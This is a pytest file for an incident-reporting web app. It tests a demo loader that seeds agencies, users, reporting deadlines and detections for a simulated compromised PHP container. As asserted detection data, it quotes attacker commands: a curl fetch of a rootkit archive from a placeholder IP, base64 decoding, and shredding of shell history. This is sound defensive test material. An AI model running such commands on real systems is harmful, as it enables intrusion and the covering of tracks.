"""``manage.py load_demo``: the demo scenario, loaded twice, on the test database."""

import os
import shutil
from datetime import timedelta
from io import StringIO

import pytest
from django.apps import apps
from django.contrib.auth import authenticate, get_user_model
from django.core.files.storage import default_storage
from django.core.management import call_command
from django.utils import timezone

from accounts.context import context_for
from accounts.models import Agency, Membership, Role
from accounts.scoping import scope
from incidents import demo_attack
from incidents.models import Incident, IndicatorType, State
from incidents.selectors import current_determination
from reporting.clock import Status
from reporting.models import Obligation

pytestmark = pytest.mark.django_db

MAIN_TITLE = "Compromised store-frontend-ping-php pod"
PASSWORD = "docket-demo-2026"


@pytest.fixture(autouse=True)
def _evidence_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"  # the demo's evidence files stay out of var/


def _rows() -> dict[str, int]:
    return {m._meta.label: m._default_manager.count() for m in apps.get_models()}


def _user(username):
    return get_user_model().objects.get(username=username)


def _load() -> str:
    out = StringIO()
    call_command("load_demo", stdout=out)
    return out.getvalue()


@pytest.fixture
def demo():
    _load()
    return Agency.objects.get(abbreviation="DEMO")


@pytest.fixture
def main_incident(demo):
    return Incident.objects.get(agency=demo, title=MAIN_TITLE)


def _statuses(incident, now):
    return {
        o.rule.key: o.status
        for o in Obligation.objects.filter(incident=incident)
        .with_status(now)
        .select_related("rule")
    }


def test_a_second_load_changes_nothing():
    first_out = _load()
    assert "Loaded the demo" in first_out
    loaded = _rows()

    second_out = _load()

    assert _rows() == loaded
    assert "nothing changed" in second_out
    assert Agency.objects.filter(abbreviation="DEMO").count() == 1
    assert Agency.objects.filter(abbreviation="ODA").count() == 1
    for out in (first_out, second_out):
        assert "http://127.0.0.1:8000/" in out
        for username in ("isso", "compliance", "approver", "auditor", "admin", "outsider"):
            assert f"  {username} " in out
        assert PASSWORD in out


def test_the_sign_ins_name_the_address_make_run_serves_on(monkeypatch):
    monkeypatch.setenv("DOCKET_RUN_ADDRESS", "0.0.0.0:8080")
    out = _load()
    assert "Docket is at http://127.0.0.1:8080/ " in out
    assert "8000" not in out


@pytest.mark.parametrize(
    ("address", "url"),
    [
        ("", "http://127.0.0.1:8000/"),
        ("8001", "http://127.0.0.1:8001/"),
        ("0:9000", "http://127.0.0.1:9000/"),
        ("0.0.0.0:8080", "http://127.0.0.1:8080/"),
        ("docket.lan:8000", "http://docket.lan:8000/"),
        ("[::]:8000", "http://[::1]:8000/"),
        ("[::1]:8000", "http://[::1]:8000/"),
    ],
)
def test_run_url_reads_runservers_address(address, url):
    from core.run_address import run_url

    assert run_url(address) == url


def test_every_role_has_a_person_who_can_sign_in(demo):
    holders = dict(Membership.objects.filter(agency=demo).values_list("role", "user__username"))
    assert holders == {
        Role.ISSO: "isso",
        Role.COMPLIANCE_OFFICER: "compliance",
        Role.APPROVING_OFFICIAL: "approver",
        Role.AUDITOR: "auditor",
        Role.AGENCY_ADMIN: "admin",
    }
    isso = Membership.objects.get(agency=demo, role=Role.ISSO)
    assert [s.acronym for s in isso.systems.all()] == ["STORE"]
    for username in (*holders.values(), "outsider"):
        user = authenticate(username=username, password=PASSWORD)
        assert user is not None, username
        assert user.email == f"{username}@demo.example.gov"
        assert user.is_staff == (username == "admin")
        assert not user.is_superuser
    assert demo.time_zone == "America/New_York"
    assert demo.marking == "CUI"
    assert {
        (s.acronym, s.confidentiality, s.integrity, s.availability) for s in demo.systems.all()
    } == {
        ("STORE", 2, 2, 1),
        ("CASE", 3, 3, 2),
    }


def test_the_main_incident_is_major_with_its_seven_day_clocks_running(main_incident):
    now = timezone.now()
    incident = main_incident
    assert timedelta(hours=5) < now - incident.identified_at < timedelta(hours=7)
    assert incident.first_detected_at < incident.identified_at
    assert incident.occurred_at < incident.first_detected_at
    assert [s.acronym for s in incident.systems.all()] == ["STORE"]
    assert incident.functional_impact and incident.information_impact and incident.recoverability
    assert incident.location and incident.attack_vectors and incident.poc_email
    for step in ("bash", "curl", "base64 -d", "tar xvfz", "gzip -d", "www-data"):
        assert step in incident.summary
    assert "Delete or rename shell history" in incident.summary
    indicators = set(incident.indicators.values_list("type", "value"))
    assert (IndicatorType.PROCESS, "shred -f /var/www/.bash_history") in indicators
    assert {IndicatorType.URL, IndicatorType.CONTAINER_IMAGE} <= {t for t, _ in indicators}

    det = current_determination(incident)
    assert det.decision == "major"
    assert det.decided_by.username == "approver"
    assert det.nciss_level == 3
    assert det.harms["public_confidence"]["likely"] is True
    assert timedelta(hours=2) < now - det.basis_at < timedelta(hours=4)

    statuses = _statuses(incident, now)
    assert statuses["cisa-initial"] == Status.MET_ON_TIME
    assert statuses["cisa-major-update"] == Status.MET_ON_TIME
    live = {Status.UPCOMING, Status.DUE_SOON}
    assert statuses["congress-7-day"] in live
    assert statuses["ig-7-day"] in live
    assert statuses["supplemental"] in live
    assert incident.additional_information.count() == 1


def test_obligations_in_every_status(demo):
    now = timezone.now()
    found = set(
        Obligation.objects.filter(incident__agency=demo)
        .with_status(now)
        .values_list("status", flat=True)
    )
    assert found == {s.value for s in Status}


def test_the_other_incidents_tell_their_stories(demo):
    now = timezone.now()
    by_state = {}
    for incident in Incident.objects.filter(agency=demo):
        by_state.setdefault(incident.state, []).append(_statuses(incident, now))

    overdue = [s for s in by_state[State.TRIAGE] if s.get("cisa-initial") == Status.OVERDUE]
    assert overdue, "a CISA notification nobody sent"
    assert by_state[State.DISMISSED] == [{"cisa-initial": Status.WITHDRAWN}]
    assert by_state[State.CLOSED] == [{"cisa-initial": Status.MET_ON_TIME}]
    waived = Obligation.objects.get(incident__agency=demo, waived_at__isnull=False)
    assert waived.waived_by.username == "approver"
    assert waived.waive_reason


def test_agencies_do_not_see_each_other(demo):
    other = Agency.objects.get(abbreviation="ODA")
    outsider_view = scope(Incident.objects.all(), context_for(_user("outsider"), other))
    assert outsider_view.exists()
    assert not outsider_view.filter(agency=demo).exists()
    assert not Membership.objects.filter(user__username="outsider", agency=demo).exists()
    compliance_view = scope(Incident.objects.all(), context_for(_user("compliance"), demo))
    assert not compliance_view.filter(agency=other).exists()
    auditor_view = scope(Incident.objects.all(), context_for(_user("auditor"), demo))
    assert list(auditor_view.values_list("title", flat=True)) == [MAIN_TITLE]


def test_the_main_incidents_snapshot_shows_the_state_at_the_time_not_todays(main_incident):
    from compliance.models import Framework, PoamItem
    from compliance.risk.selectors import latest_snapshot, prior_risk_assessments
    from compliance.selectors import system_state_as_of

    compliance = context_for(_user("compliance"), main_incident.agency)
    snap = latest_snapshot(compliance, main_incident)
    assert snap is not None and snap.as_of == main_incident.first_detected_at
    (store,) = snap.document["systems"]
    assert store["acronym"] == "STORE" and store["frameworks"]
    system = main_incident.systems.get()
    for fw in store["frameworks"]:
        framework = Framework.objects.get(name=fw["name"], version=fw["version"])
        then = system_state_as_of(
            ctx=compliance,
            system=system,
            framework=framework,
            at=snap.as_of,
            known_at=snap.taken_at,
        )
        assert fw["counts"] == then.counts
    now = timezone.now()
    changed = False
    for fw in store["frameworks"]:
        framework = Framework.objects.get(name=fw["name"], version=fw["version"])
        today = system_state_as_of(ctx=compliance, system=system, framework=framework, at=now)
        changed |= today.counts != fw["counts"]
    assert changed, "the state as of the incident should differ from today's"

    assert [r["overall_risk"] for r in store["prior_risk_assessments"]] == ["moderate"]
    assert len(prior_risk_assessments(compliance, main_incident)) == 1
    assert "Audit logs writable by the web server user" in {
        p["weakness"]
        for p in store["open_poam_items"]  # open then, closed since
    }
    assert PoamItem.objects.filter(system=system, status="open").count() == 2
    (from_incident,) = snap.document["poam_items_from_incident"]
    assert len(from_incident["milestones"]) == 3


def test_demo_evidence_has_a_custody_story_and_whole_chains(main_incident):
    from evidence import services as evidence_services
    from evidence.models import Evidence

    items = {e.original_filename: e for e in Evidence.objects.filter(incident=main_incident)}
    alerts = items["falco-alerts-store-frontend.jsonl"]
    # The export holds what Falco raised about the attack: the six alerts of the timeline.
    assert alerts.kind == "falco_alerts" and alerts.format_details["falco_alerts"] == 6
    actions = list(alerts.custody.order_by("seq").values_list("action", flat=True))
    assert actions == ["collect", "upload", "transfer", "verify"]
    assert evidence_services.custodian(alerts).username == "compliance"
    assert items["node-journal (copy).log"].withdrawn
    assert not items["node-journal.log"].withdrawn
    assert all(evidence_services.ledger_check(e) == [] for e in items.values())


# --- Falco detections (incidents/demo_detections.py) -------------------------------------------


def test_the_main_incident_holds_the_pods_falco_detections(main_incident):
    from incidents.models import CandidateStatus, Detection, IncidentCandidate

    now = timezone.now()
    # Falco's candidate (Sysdig's events of the same pod form another, attached too).
    candidate = (
        IncidentCandidate.objects.filter(incident=main_incident, detections__source="syscall")
        .distinct()
        .get()
    )
    assert candidate.status == CandidateStatus.ATTACHED
    assert candidate.resolved_by.username == "isso"
    assert candidate.group_key == "pod:store/store-frontend-ping-php"
    assert candidate.system.acronym == "STORE"
    detections = list(Detection.objects.filter(candidate=candidate).order_by("time_ns"))
    assert candidate.count == len(detections) == 6
    assert {d.user_name for d in detections} == {"www-data"}
    assert {d.k8s_pod for d in detections} == {"store-frontend-ping-php"}
    cmdlines = " ".join(d.process_cmdline for d in detections)
    for step in ("bash", "curl -s http://198.51.100.23/kit/rk.tar.gz.b64", "base64 -d"):
        assert step in cmdlines
    assert detections[-1].rule == "Delete or rename shell history"
    assert detections[-1].process_cmdline == "shred -f /var/www/.bash_history"
    by_rule = {d.rule: d for d in detections}
    assert by_rule["Clear Log Activities"].control_refs == ["NIST SP 800-53 AU-10"]
    assert by_rule["Decoding Payload in Container"].priority == "Informational"
    # Detected before the incident was identified, within minutes of its first detection.
    assert abs(detections[0].time - main_incident.first_detected_at) < timedelta(minutes=1)
    assert all(
        timedelta(hours=5, minutes=55) < now - d.time < timedelta(hours=6, minutes=10)
        for d in detections
    )
    assert main_incident.events.filter(data__candidate=candidate.pk).exists()


def test_one_candidate_waits_in_the_isso_s_triage_queue(demo):
    from incidents.models import CandidateStatus, IncidentCandidate

    waiting = scope(IncidentCandidate.objects.all(), context_for(_user("isso"), demo)).filter(
        status=CandidateStatus.OPEN
    )
    assert [c.group_key for c in waiting] == ["pod:store/store-cart-5f7b9c-q2x8d"]
    candidate = waiting[0]
    assert candidate.system.acronym == "STORE"
    assert {d.rule for d in candidate.detections.all()} == {
        "Read sensitive file untrusted",
        "Search Private Keys or Passwords",
    }
    assert timedelta(minutes=15) < timezone.now() - candidate.last_seen < timedelta(minutes=30)
    other = Agency.objects.get(abbreviation="ODA")
    assert not scope(
        IncidentCandidate.objects.all(), context_for(_user("outsider"), other)
    ).exists()


def test_the_demo_alerts_match_the_real_falco_rules():
    """Names, priorities, tags and output formats are copied from the rule files."""
    from incidents.demo_detections import RULES

    from .support.alerts import falco_rule

    for name, (priority, tags, output) in RULES.items():
        rule = falco_rule(name)
        assert priority == str(rule["priority"]).strip(), name
        assert tags == list(rule["tags"]), name
        assert output == " ".join(rule["output"].split()), name


# --- one account of the attack (incidents/demo_attack.py) --------------------------------------

needs_sysdig = pytest.mark.skipif(
    shutil.which("sysdig") is None and os.environ.get("CI") != "true",
    reason="Debian's sysdig is not installed (make test installs it)",
)
PROMISED = (
    "bash",
    "ls",
    "curl",
    "base64 -d",
    "tar xvfz",
    "gzip -d",
    "shred -f /var/www/.bash_history",
)


def _is(cmdline: str, promised: str) -> bool:
    return cmdline == promised or cmdline.startswith(promised + " ")


@pytest.fixture
def decoded(django_capture_on_commit_callbacks):
    """The demo loaded as ``make run`` loads it, with what its commit queues run (Celery is
    eager in tests): sysdig decodes the attached capture."""
    with django_capture_on_commit_callbacks(execute=True):
        _load()
    incident = Incident.objects.get(agency__abbreviation="DEMO", title=MAIN_TITLE)
    return incident, context_for(_user("compliance"), incident.agency)


def test_the_summary_promises_what_the_demo_shows(main_incident):
    summary = main_incident.summary
    assert "20-second" in summary
    positions = [summary.index(p) for p in PROMISED]
    assert positions == sorted(positions), "the summary tells the commands in their order"
    from incidents.models import Detection

    raised = Detection.objects.filter(candidate__incident=main_incident).values_list("rule")
    assert len(set(raised)) == 6
    for (rule,) in set(raised):  # every rule Falco and Sysdig raised is named
        assert f'"{rule}"' in summary, rule


def test_the_capture_is_attached_and_valid(main_incident):
    from evidence.models import Evidence

    scap = Evidence.objects.get(incident=main_incident, kind="scap")
    assert scap.detected_format == "scap" and scap.compression == "gzip"
    assert scap.format_details["block_counts"]["event"] == 1 + 2 * len(demo_attack.STEPS)
    assert (scap.source_pod, scap.source_container) == (demo_attack.POD, demo_attack.CONTAINER_ID)
    trigger = demo_attack.at(
        timezone.now().replace(second=0, microsecond=0), demo_attack.SHRED_UNLINK_NS
    )
    assert abs(scap.collected_at - (trigger + timedelta(seconds=15))) < timedelta(minutes=2)
    assert "20-second" in scap.description


@needs_sysdig
def test_the_timeline_tells_one_story_in_one_order_within_the_capture(decoded):
    from incidents.models import CommandExtraction, ExtractionStatus
    from incidents.timeline import incident_timeline

    incident, ctx = decoded
    extraction = CommandExtraction.objects.get(evidence__incident=incident)
    assert extraction.status == ExtractionStatus.SUCCEEDED, extraction.error
    entries = incident_timeline(ctx, incident).entries
    in_pod = [e for e in entries if e.container.startswith(f"store/{demo_attack.POD}")]

    times: dict[str, dict[str, list[int]]] = {}
    for source in ("command", "capture"):
        rows = [e for e in in_pod if e.source == source]
        found = [(p, e.sort_ns) for e in rows for p in PROMISED if _is(e.command, p)]
        # Each promised command once per source, in the order promised.
        assert [p for p, _ in found] == list(PROMISED), source
        times[source] = {p: [ns] for p, ns in found}
        assert {e.user for e in rows} == {"www-data"}
    # The same instant, to the nanosecond, in Sysdig's records and in the capture …
    assert times["command"] == times["capture"]
    # … and in every Falco alert about a command.
    falco = [e for e in in_pod if e.source == "detection" and e.origin == "Falco"]
    by_command = {p: [e.sort_ns for e in falco if _is(e.command, p)] for p in PROMISED}
    for p in ("bash", "curl", "base64 -d"):
        assert by_command[p] == times["capture"][p], p
    shred_ns = times["capture"]["shred -f /var/www/.bash_history"][0]
    assert len(by_command["shred -f /var/www/.bash_history"]) == 3
    assert all(
        0 <= ns - shred_ns < 2_000_000 for ns in by_command["shred -f /var/www/.bash_history"]
    )
    # The capture's window: 5 s before Sysdig's shell-history event, 15 s after.
    (trigger,) = [
        e.sort_ns
        for e in in_pod
        if e.source == "detection" and e.origin == "Sysdig" and "Delete or rename" in e.detail
    ]
    attack = [e.sort_ns for e in in_pod if e.source in ("command", "capture", "detection")]
    assert all(trigger - 5 * 10**9 <= ns <= trigger + 15 * 10**9 for ns in attack)
    # One order: the promised commands, from every source, are never out of step.
    order = [p for e in in_pod for p in PROMISED if e.source != "action" and _is(e.command, p)]
    assert [p for i, p in enumerate(order) if i == 0 or p != order[i - 1]] == list(PROMISED)


def test_the_falco_export_and_the_detections_agree(main_incident):
    import json

    from evidence.models import Evidence
    from incidents.models import Detection

    export = Evidence.objects.get(incident=main_incident, kind="falco_alerts")
    with default_storage.open(export.storage_name, "rb") as fh:
        exported = [json.loads(line) for line in fh.read().decode().splitlines()]
    stored = Detection.objects.filter(candidate__incident=main_incident, source="syscall")
    assert sorted((a["rule"], a["output_fields"]["evt.time"]) for a in exported) == sorted(
        stored.values_list("rule", "time_ns")
    )


def test_the_main_incidents_reports_tell_where_each_stands(main_incident, demo):
    """CISA notification and update submitted with their PDFs on file, the seven-day notices
    in review, supplemental report 1 drafted (and rendered) from the demo's data, and an
    annual summary of the current fiscal year."""
    from core.storage import hash_stored
    from reporting.models import Report, cisa_response_for

    reports = {
        r.obligation.rule.key: r
        for r in Report.objects.filter(incident=main_incident).select_related("obligation__rule")
    }
    assert set(reports) == {
        "cisa-initial",
        "cisa-major-update",
        "congress-7-day",
        "ig-7-day",
        "supplemental",
    }
    for key in ("cisa-initial", "cisa-major-update"):
        report = reports[key]
        assert report.state == "submitted" and report.approved_by.username == "approver"
        sub = report.obligation.submissions.get()
        version = sub.report_version
        assert version.report == report and version.draft is False
        assert hash_stored(version.pdf_name) == (version.pdf_sha256, version.pdf_size)
        assert sub.submitted_at == report.submitted_at == report.obligation.met_at
    assert reports["congress-7-day"].state == reports["ig-7-day"].state == "in_review"
    supplemental = reports["supplemental"]
    assert supplemental.state == "draft" and supplemental.obligation.sequence == 1
    assert supplemental.versions.get().data["meta"]["incident"] == main_incident.number
    answer = cisa_response_for(main_incident)
    assert answer.tracking_number.endswith("-0417") and answer.severity == "high"

    # The case-records breach (the incident due tonight) has its 30-day report drafted, with
    # every narrative the report asks for written.
    breach = Report.objects.get(agency=demo, kind="major-breach-report")
    assert breach.obligation.rule.key == "major-breach-30-day" and breach.state == "draft"
    assert breach.incident.title.startswith("Case records exported")
    assert current_determination(breach.incident).breach is True
    for key in ("how-occurred", "risk-of-harm", "delay", "notification"):
        assert breach.narrative[key].strip(), key

    now = timezone.now().astimezone(demo.tz)
    year = now.year + 1 if now.month >= 10 else now.year
    annual = Report.objects.get(agency=demo, kind="annual-fisma-summary")
    assert annual.fiscal_year == year and annual.incident is None and annual.state == "draft"
